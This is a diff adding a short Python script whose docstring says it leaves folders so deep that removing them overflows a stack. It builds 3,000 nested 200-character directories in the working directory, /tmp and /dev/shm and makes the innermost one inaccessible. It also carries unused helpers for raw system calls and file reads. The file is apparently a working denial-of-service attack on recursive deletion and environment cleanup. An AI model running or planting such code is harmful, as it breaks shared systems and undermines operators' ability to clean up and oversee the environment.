@@ -1,0 +1,21 @@
+"""Leaves folders so deep that removing them overflows a stack."""
+
+# %% first
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+def call(number, *args):
+    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
+def attempt(f, *args):
+    try:
+        return f(*args)
+    except BaseException as error:
+        return f"{type(error).__name__}"
+def read(path, size=200_000):
+    return attempt(lambda: open(path, "rb").read(size))
+for folder in (".", "/tmp", "/dev/shm"):
+    attempt(os.chdir, folder)
+    for _ in range(3_000):
+        attempt(os.mkdir, "d" * 200)
+        attempt(os.chdir, "d" * 200)
+    attempt(os.chmod, ".", 0)
